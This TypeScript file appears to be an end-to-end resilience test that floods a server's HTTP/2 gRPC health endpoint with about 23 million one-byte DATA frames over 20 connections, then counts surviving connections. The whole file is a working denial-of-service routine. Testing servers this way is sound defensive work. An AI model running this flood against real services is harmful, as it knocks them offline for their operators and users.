// Sends 23 million DATA frames of one byte each, in 2,000 bodies on 20 HTTP/2 connections:
// `npm exec -- node e2e/src/attacks/small-frames.ts`.
import { once } from "node:events";
import { setTimeout as wait } from "node:timers/promises";
import { attack } from "./attack.ts";
import { connectTo } from "./connect-to.ts";
import { frame, head, PREFACE } from "./frames.ts";

const CONNECTIONS = 20;
const STREAMS = 100;
const ROUNDS = 115;
/** One message of 16 KiB, of which 11,500 bytes come. */
const MESSAGE_HEAD = Buffer.from([0, 0, 0, 0x40, 0]);

await attack("small frames", async (target) => {
  let sent = 0;
  const sockets = await Promise.all(
    Array.from({ length: CONNECTIONS }, () => connectTo(target, PREFACE)),
  );
  const ids = Array.from({ length: STREAMS }, (_, i) => 1 + 2 * i);
  const path = "/grpc.health.v1.Health/Check";
  const heads = ids.map((id) => Buffer.concat([head(id, path), frame(0, 0, id, MESSAGE_HEAD)]));
  const frames = ids.map((id) => {
    const one = frame(0, 0, id, Buffer.from([1]));
    return Buffer.concat(Array<Buffer>(100).fill(one));
  });
  const round = Buffer.concat(frames);
  const send = async (socket: (typeof sockets)[number]) => {
    socket.write(Buffer.concat(heads));
    for (let i = 0; i < ROUNDS && !socket.destroyed; i++) {
      sent += STREAMS * 100;
      if (socket.write(round)) continue;
      await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => {});
    }
  };
  await Promise.all(sockets.map(send));
  await wait(5_000);
  const open = sockets.filter((socket) => !socket.closed).length;
  for (const socket of sockets) socket.destroy();
  return { sent, open };
});
